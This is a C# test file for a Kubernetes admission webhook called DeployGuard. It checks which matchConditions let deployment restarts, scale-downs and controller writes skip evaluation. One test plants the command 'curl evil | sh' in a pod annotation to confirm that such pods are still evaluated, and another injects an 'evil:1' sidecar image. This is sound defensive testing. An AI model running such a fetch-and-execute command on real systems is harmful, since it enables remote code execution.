using System.Text.Json;
using System.Text.Json.Nodes;
using DeployGuard.Core.Admission;
using DeployGuard.Core.Policies;
using DeployGuard.Core.Safeguards;
using DeployGuard.Core.Snapshots;
using DeployGuard.Core.Workloads;
using DeployGuard.Kubernetes.Webhooks;
using DeployGuard.Rig;
using DeployGuard.Webhook.Admission;

namespace DeployGuard.Chart.Tests;

/// <summary>
/// Requests that matchConditions drop before DeployGuard is called, independent of the server of the run: another CEL implementation
/// evaluates the expressions over reviews recorded from a 1.36 server and over variants of one of them.
/// </summary>
[Parallelizable(ParallelScope.All)]
public class MatchConditionTests
{
    private static readonly string s_reviews = Path.Combine(AppContext.BaseDirectory, "reviews");

    private static readonly JsonObject[] s_ofWorkloads =
    [
        MatchConditions.NotByItsController(TrustedControllers.BuiltIn),
        MatchConditions.MoreThanARestart(TemplateNoise.Default),
    ];

    private static readonly TrustedControllers s_withKeda = new([
        KeyValuePair.Create<string, string[]>("system:serviceaccount:keda:keda-operator", ["Scale"]),
    ]);

    private static readonly SafeguardPolicy s_policy = PolicyReader.Read(
        JsonDocument
            .Parse("""{"metadata": {"name": "all"}, "spec": {"approval": {"quorum": [{"groups": ["a"]}]}, "canary": {"steps": [5]}}}""")
            .RootElement
    );

    private static readonly string[] s_dropped =
    [
        "kubectl-annotate-update-deployment",
        "kubectl-annotate-update-replicaset",
        "kubectl-apply-create-create-pod",
        "kubectl-apply-create-create-replicaset",
        "kubectl-apply-dry-run-update-deployment",
        "kubectl-apply-new-image-create-pod",
        "kubectl-apply-new-image-create-replicaset",
        "kubectl-apply-server-side-update-deployment",
        "kubectl-apply-server-side-update-deployment-2",
        "kubectl-apply-server-side-update-deployment-3",
        "kubectl-apply-server-side-update-deployment-4",
        "kubectl-apply-server-side-update-replicaset",
        "kubectl-patch-replicas-update-deployment",
        "kubectl-patch-replicas-update-replicaset",
        "kubectl-recreate-strategy-create-pod",
        "kubectl-recreate-strategy-update-replicaset",
        "kubectl-rollout-restart-create-pod",
        "kubectl-rollout-restart-create-replicaset",
        "kubectl-rollout-restart-update-deployment",
        "kubectl-rollout-restart-update-replicaset",
        "kubectl-rollout-undo-update-replicaset",
        "kubectl-scale-create-pod",
        "kubectl-scale-update-replicaset",
        "kubectl-set-image-create-pod",
        "kubectl-set-image-create-replicaset",
        "kubectl-set-image-update-replicaset",
        "other-kinds-create-pod",
        "reloader-by-annotation-update-deployment",
    ];

    [Test]
    public async Task DroppedRequestsNeedNoEvaluation()
    {
        var names = Directory
            .GetFiles(s_reviews)
            .Select(f => Path.GetFileNameWithoutExtension(f))
            .Order(StringComparer.Ordinal)
            .Where(n => !n.Contains("-delete-", StringComparison.Ordinal) && !n.Contains("-scale-scale", StringComparison.Ordinal))
            .ToList();
        var reviews = names
            .Select(n => JsonNode.Parse(File.ReadAllText(Path.Combine(s_reviews, $"{n}.json")))?["request"]?.AsObject() ?? [])
            .ToList();

        var asked = await IsCalledAsync(reviews, s_ofWorkloads);

        var dropped = names.Where((_, i) => !asked[i]).ToList();
        Assert.That(dropped, Is.EqualTo(s_dropped), "every other request calls DeployGuard");
        foreach (var i in Enumerable.Range(0, names.Count).Where(i => !asked[i]))
        {
            Assert.That(Meant(reviews[i]), Is.AnyOf(ChangeType.NothingToGuard, ChangeType.LessExposure), names[i]);
        }
    }

    [TestCase(
        """{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-11-25T08:00:00Z"}}}}}""",
        false,
        "a restart"
    )]
    [TestCase("""{"spec": {"replicas": 1}}""", false, "a scale-down")]
    [TestCase(
        """{"spec": {"replicas": 1, "template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-11-25T08:00:00Z"}}}}}""",
        false,
        "both"
    )]
    [TestCase("""{"metadata": {"annotations": {"note": "x"}}, "status": {"replicas": 3}}""", false, "neither spec nor labels")]
    [TestCase("""{"spec": {"replicas": 100}}""", true, "a scale-up")]
    [TestCase("""{"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "web:9"}]}}}}""", true, "another image")]
    [TestCase(
        """{"spec": {"replicas": 1, "template": {"spec": {"serviceAccountName": "other"}}}}""",
        true,
        "another template behind a scale-down"
    )]
    [TestCase(
        """{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "x", "sidecar.istio.io/proxyImage": "evil:1"}}}}}""",
        true,
        "an injected image behind a restart"
    )]
    [TestCase("""{"spec": {"template": {"metadata": {"annotations": {"deployguard.io/ai-tool": "some-tool"}}}}}""", true, "evidence")]
    [TestCase("""{"spec": {"template": {"metadata": {"labels": {"app": "other"}}}}}""", true, "a label that may join a Service")]
    [TestCase("""{"spec": {"strategy": {"type": "Recreate", "rollingUpdate": null}}}""", true, "a faster pace")]
    [TestCase("""{"spec": {"paused": true}}""", true, "pausing")]
    [TestCase("""{"metadata": {"labels": {"tier": "none"}}}""", true, "leaving a policy by a label")]
    public async Task AnUpdateIsDroppedExactlyIfItOnlyRestartsOrScalesDown(string patch, bool isCalled, string what)
    {
        var review = Review("kubectl-set-image-update-deployment");
        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));

        Assert.That(
            (await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(),
            Is.EqualTo(isCalled),
            what
        );
    }

    [TestCase(
        """{"containers": [{"name": "web", "image": "web:1", "env": [{"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['kubectl.kubernetes.io/restartedAt']"}}}]}]}"""
    )]
    [TestCase(
        """{"initContainers": [{"name": "i", "image": "i:1", "env": [{"name": "A", "value": "b"}, {"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['a']"}}}]}], "containers": []}"""
    )]
    [TestCase(
        """{"containers": [], "volumes": [{"name": "e", "emptyDir": {}}, {"name": "v", "downwardAPI": {"items": [{"path": "p", "resourceFieldRef": {"resource": "limits.cpu"}}, {"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}"""
    )]
    [TestCase(
        """{"containers": [], "volumes": [{"name": "v", "projected": {"sources": [{"secret": {"name": "s"}}, {"downwardAPI": {"items": [{"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}]}"""
    )]
    public async Task RestartOfAPodThatReadsItsAnnotationsIsEvaluated(string spec)
    {
        var review = Review("kubectl-set-image-update-deployment");
        var old = review["oldObject"]?.DeepClone().AsObject() ?? [];
        old["spec"]!["template"]!["spec"] = Parse(spec);
        review["oldObject"] = old;
        review["object"] = Patched(
            old.DeepClone().AsObject(),
            Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}""")
        );

        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
    }

    private const string Collector = "system:serviceaccount:kube-system:generic-garbage-collector";
    private const string Owners =
        """{"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "a", "uid": "u"}]}}""";

    [TestCase("dana", Owners, true, "an owner that could delete or hide it")]
    [TestCase(Collector, Owners, false, "the garbage collector orphans it")]
    [TestCase("system:serviceaccount:kube-system:namespace-controller", Owners, false, "a namespace ends")]
    [TestCase("system:kube-controller-manager", Owners, false, "a controller manager without separate credentials")]
    [TestCase("dana", """{"metadata": {"finalizers": ["example.com/old", "example.com/new"]}}""", true, "an added finalizer")]
    [TestCase("dana", """{"metadata": {"finalizers": []}}""", false, "a removed finalizer")]
    [TestCase("dana", """{"metadata": {"finalizers": null}}""", false, "no finalizer")]
    [TestCase(
        Collector,
        """{"metadata": {"finalizers": ["example.com/old", "foregroundDeletion"]}}""",
        false,
        "it waits for its dependents"
    )]
    [TestCase(Collector, """{"spec": {"template": {"spec": {"serviceAccountName": "other"}}}}""", true, "a field that it never writes")]
    public async Task OwnersAndAddedFinalizersAreEvaluatedForPeopleOnly(string user, string patch, bool isCalled, string what)
    {
        var review = Review("kubectl-set-image-update-deployment");
        review["userInfo"] = new JsonObject { ["username"] = user };
        review["oldObject"]!["metadata"]!["finalizers"] = new JsonArray("example.com/old");
        review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));

        Assert.That(
            (await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(),
            Is.EqualTo(isCalled),
            what
        );
        Assert.That(
            (await IsCalledAsync([review], [MatchConditions.OtherMetadata])).Single(),
            Is.EqualTo(isCalled && !patch.Contains("spec", StringComparison.Ordinal)),
            "a status write does not change the spec"
        );
    }

    [TestCase("DELETE", "", null, null, true)]
    [TestCase("UPDATE", "", 3, 2, true)]
    [TestCase("UPDATE", "", 2, 3, false)]
    [TestCase("UPDATE", "scale", 3, 0, true)]
    [TestCase("UPDATE", "scale", 0, 3, false)]
    public async Task DeletionsAndScaleDownsAreEvaluatedAndScaleUpsAreNot(
        string operation,
        string subResource,
        int? before,
        int? after,
        bool isCalled
    )
    {
        JsonNode? Sized(int? replicas) =>
            replicas is not { } count
                ? null
                : new JsonObject
                {
                    ["metadata"] = new JsonObject { ["name"] = "web-1" },
                    ["spec"] = subResource == "scale" && count == 0 ? [] : new JsonObject { ["replicas"] = count },
                };
        var review = new JsonObject
        {
            ["operation"] = operation,
            ["subResource"] = subResource,
            ["resource"] = new JsonObject { ["group"] = "apps", ["resource"] = "replicasets" },
            ["userInfo"] = new JsonObject { ["username"] = "dana" },
            ["object"] = Sized(after),
            ["oldObject"] = Sized(before),
        };

        Assert.That((await IsCalledAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.EqualTo(isCalled));
    }

    [Test]
    public async Task OtherUpdatesOfAReplicaSetMatchOneEntryOnly()
    {
        var review = Review("kubectl-set-image-update-replicaset");
        review["object"] = Patched(
            review["oldObject"]?.DeepClone().AsObject() ?? [],
            Parse("""{"metadata": {"labels": {"a": "b"}}, "spec": {"replicas": 0}}""")
        );

        Assert.That((await IsCalledAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.False);
        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
    }

    [TestCase("dana", true)]
    [TestCase("system:serviceaccount:shop:probe", true)]
    [TestCase("system:serviceaccount:kube-system:endpointslice-controller", false)]
    [TestCase("system:kube-controller-manager", false)]
    [TestCase("system:node:n1", false)]
    public async Task ControlPlaneAndNodesAreRecognizedByTheirUserNames(string user, bool isCalled)
    {
        var review = new JsonObject
        {
            ["userInfo"] = new JsonObject
            {
                ["username"] = user,
                ["groups"] = new JsonArray(user.StartsWith("system:node:", StringComparison.Ordinal) ? "system:nodes" : "others"),
            },
        };

        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByTheControlPlane])).Single(), Is.EqualTo(isCalled));
    }

    [TestCase("""{"metadata": {"annotations": {"leader": "me"}}}""", false)]
    [TestCase("""{"metadata": {"labels": {"kubernetes.io/service-name": "web"}}}""", true)]
    [TestCase("""{"endpoints": [{"addresses": ["10.0.0.1"]}]}""", true)]
    [TestCase("""{"subsets": [{"addresses": [{"ip": "10.0.0.1"}]}]}""", true)]
    public async Task ChangedAddressesAreEvaluated(string patch, bool isCalled)
    {
        var old = Parse("""{"metadata": {"name": "web"}}""");
        var review = new JsonObject
        {
            ["operation"] = "UPDATE",
            ["oldObject"] = old,
            ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)),
        };

        Assert.That((await IsCalledAsync([review], [MatchConditions.OtherAddresses])).Single(), Is.EqualTo(isCalled));
    }

    [TestCase("system:serviceaccount:kube-system:deployment-controller", "replicasets", false)]
    [TestCase("system:serviceaccount:kube-system:deployment-controller", "pods", true)]
    [TestCase("system:serviceaccount:shop:deployment-controller", "replicasets", true)]
    [TestCase("dana", "replicasets", true)]
    public async Task ControllerIsTrustedForItsOwnKindOnly(string user, string resource, bool isCalled)
    {
        var review = Review("kubectl-set-image-create-replicaset");
        review["userInfo"] = new JsonObject { ["username"] = user };
        review["resource"]!["resource"] = resource;

        Assert.That(
            (await IsCalledAsync([review], [MatchConditions.NotByItsController(TrustedControllers.BuiltIn)])).Single(),
            Is.EqualTo(isCalled)
        );
    }

    [TestCase(
        "CREATE",
        """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "r", "uid": "u", "controller": true}]""",
        false
    )]
    [TestCase(
        "UPDATE",
        """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "r", "uid": "u", "controller": true}]""",
        false
    )]
    [TestCase(
        "CREATE",
        """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Experiment", "name": "r", "uid": "u", "controller": true}]""",
        true
    )]
    [TestCase(
        "UPDATE",
        """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Experiment", "name": "r", "uid": "u", "controller": true}]""",
        true
    )]
    [TestCase(
        "CREATE",
        """[{"apiVersion": "argoproj.io.example.com/v1", "kind": "Rollout", "name": "r", "uid": "u", "controller": true}]""",
        true
    )]
    [TestCase("CREATE", """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "r", "uid": "u"}]""", true)]
    [TestCase("CREATE", "[]", true)]
    [TestCase("CREATE", null, true)]
    [TestCase("DELETE", null, false)]
    public async Task PresetIsTrustedForOwnersOfItsKindOnly(string operation, string? owners, bool isCalled)
    {
        var rollouts = new TrustedControllers([], [ControllerPreset.Trusted("argo-rollouts")]);
        var review = Review("kubectl-set-image-create-replicaset");
        review["operation"] = operation;
        review["userInfo"] = new JsonObject { ["username"] = "system:serviceaccount:argo-rollouts:argo-rollouts" };
        review["object"]!["metadata"]!["ownerReferences"] = JsonNode.Parse(owners ?? "null");
        if (owners is null)
        {
            review["object"]!["metadata"]!.AsObject().Remove("ownerReferences");
        }

        if (operation == "DELETE")
        {
            review["object"] = null;
        }

        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.EqualTo(isCalled));
    }

    [Test]
    public async Task ObjectsWithTooManyOwnersAreEvaluated()
    {
        var rollouts = new TrustedControllers([], [ControllerPreset.Trusted("argo-rollouts")]);
        var review = Review("kubectl-set-image-create-replicaset");
        review["userInfo"] = new JsonObject { ["username"] = "system:serviceaccount:argo-rollouts:argo-rollouts" };
        review["object"]!["metadata"]!["ownerReferences"] = new JsonArray([
            .. Enumerable
                .Range(0, 9)
                .Select(i =>
                    (JsonNode)
                        new JsonObject
                        {
                            ["apiVersion"] = "argoproj.io/v1alpha1",
                            ["kind"] = "Rollout",
                            ["name"] = $"r{i}",
                            ["uid"] = $"u{i}",
                            ["controller"] = i == 0,
                        }
                ),
        ]);

        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.True);
    }

    [TestCase(3, 5, true)]
    [TestCase(5, 3, false)]
    [TestCase(0, 1, true)]
    [TestCase(1, 0, false)]
    public async Task ScaleIsEvaluatedIfItScalesUp(int before, int after, bool isCalled)
    {
        var review = Review("kubectl-scale-update-scale-scale");
        // A zero is left out on the wire.
        review["oldObject"]!["spec"] = before == 0 ? [] : new JsonObject { ["replicas"] = before };
        review["object"]!["spec"] = after == 0 ? [] : new JsonObject { ["replicas"] = after };

        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreReplicas])).Single(), Is.EqualTo(isCalled));
    }

    [TestCase("system:serviceaccount:kube-system:horizontal-pod-autoscaler", true)]
    [TestCase("system:serviceaccount:keda:keda-operator", true)]
    [TestCase("dana", false)]
    public async Task ScalesByAutoscalersAndByPeopleMatchDifferentEntries(string user, bool isAutoscaler)
    {
        var review = Review("kubectl-scale-update-scale-scale");
        review["userInfo"] = new JsonObject { ["username"] = user };

        Assert.That((await IsCalledAsync([review], [MatchConditions.ByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(isAutoscaler));
        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(!isAutoscaler));
    }

    [TestCase("""{"metadata": {"labels": {"deployguard.io/tier": "0"}}}""", true)]
    [TestCase("""{"metadata": {"labels": null}}""", true)]
    [TestCase("""{"metadata": {"annotations": {"a": "b"}}}""", false)]
    public async Task NamespaceIsEvaluatedIfItsLabelsChange(string patch, bool isCalled)
    {
        var old = Parse("""{"metadata": {"name": "shop", "labels": {"deployguard.io/tier": "1"}}}""");
        var review = new JsonObject
        {
            ["operation"] = "UPDATE",
            ["oldObject"] = old,
            ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)),
        };

        Assert.That((await IsCalledAsync([review], [MatchConditions.OtherLabels])).Single(), Is.EqualTo(isCalled));
    }

    /// <summary>Whether the server would call DeployGuard: every condition holds. An error in a condition fails the test.</summary>
    private static async Task<IReadOnlyList<bool>> IsCalledAsync(IReadOnlyList<JsonObject> requests, IReadOnlyList<JsonObject> conditions)
    {
        var input = new JsonObject
        {
            ["expressions"] = new JsonObject(
                conditions.Select(c => KeyValuePair.Create((string?)c["name"] ?? "", c["expression"]?.DeepClone()))
            ),
            ["requests"] = new JsonArray([.. requests.Select(r => r.DeepClone())]),
        };
        var run = (await Run.OfAsync("node", [(await Toolbox.InstallAsync()).Cel], Run.SameEnvironment, input.ToJsonString())).OrFail();
        using var answers = JsonDocument.Parse(run.Output);
        return
        [
            .. answers
                .RootElement.EnumerateArray()
                .Select(a =>
                    a.EnumerateObject()
                        .All(c =>
                            c.Value.ValueKind is JsonValueKind.String
                                ? throw new AssertionException($"{c.Name}: {c.Value}")
                                : c.Value.GetBoolean()
                        )
                ),
        ];
    }

    private static ChangeType Meant(JsonObject request)
    {
        using var review = JsonDocument.Parse(
            new JsonObject
            {
                ["apiVersion"] = "admission.k8s.io/v1",
                ["kind"] = "AdmissionReview",
                ["request"] = request.DeepClone(),
            }.ToJsonString()
        );
        var read = new RequestReader(new WorkloadReader(WorkloadKinds.BuiltIn, TemplateNoise.Default, InjectionTable.BuiltIn)).Read(
            Webhook.Reviews.Review.Read(review.RootElement)
        );
        return SafeguardList
            .Evaluator(TrustedControllers.BuiltIn)
            .Evaluate(read, new ClusterSnapshot { Policies = [s_policy] }, TimeProvider.System.GetUtcNow())
            .Evaluated.ChangeType;
    }

    private static JsonObject Parse(string json) => JsonNode.Parse(json)?.AsObject() ?? throw new InvalidOperationException("no object");

    private static JsonObject Review(string name) =>
        JsonNode.Parse(File.ReadAllText(Path.Combine(s_reviews, $"{name}.json")))?["request"]?.DeepClone().AsObject()
        ?? throw new InvalidOperationException($"{name} is no review");

    /// <summary>As a merge patch does.</summary>
    private static JsonObject Patched(JsonObject into, JsonObject patch)
    {
        foreach (var (key, value) in patch.ToList())
        {
            into[key] = value is JsonObject inner ? Patched(into[key]?.DeepClone().AsObject() ?? [], inner) : value?.DeepClone();
        }

        foreach (var key in into.Where(p => p.Value is null).Select(p => p.Key).ToList())
        {
            into.Remove(key);
        }

        return into;
    }
}
